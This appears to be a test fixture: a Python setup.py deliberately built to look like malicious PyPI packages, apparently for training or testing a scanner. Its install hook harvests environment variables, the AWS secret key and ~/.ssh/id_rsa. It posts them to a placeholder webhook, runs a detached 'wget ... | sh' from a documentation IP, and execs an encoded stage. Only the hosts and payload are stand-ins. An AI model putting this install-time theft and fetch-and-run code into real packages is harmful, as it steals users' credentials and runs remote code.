# Defanged fixture: a setup.py shaped like real PyPI malware.
import os
import subprocess as sp
from base64 import b64decode as dec
from setuptools import setup
from setuptools.command.install import install
from urllib.request import urlopen, Request
from . import helpers
from .util import banner

HOOK = "https://webhook.site/00000000-defanged"


def grab():
    data = {k: v for k, v in os.environ.items()}
    key = os.getenv("AWS_SECRET_ACCESS_KEY")
    with open(os.path.expanduser("~/.ssh/id_rsa")) as fh:
        data["ssh"] = fh.read()
    return data


def beacon(data):
    urlopen(Request(HOOK, data=str(data).encode()))


def stage2():
    exec(dec("cHJpbnQoJ2RlZmFuZ2VkJyk="))


def unused():
    __import__("os").system("id")


class PostInstall(install):
    def run(self):
        install.run(self)
        self.phone_home()

    def phone_home(self):
        beacon(grab())
        sp.Popen(["sh", "-c", "wget -qO- http://203.0.113.5/x | sh"], start_new_session=True)
        stage2()


if __name__ == "__main__":
    beacon(grab())

setup(
    name="defanged",
    version="0.0.1",
    cmdclass={"install": PostInstall},
)
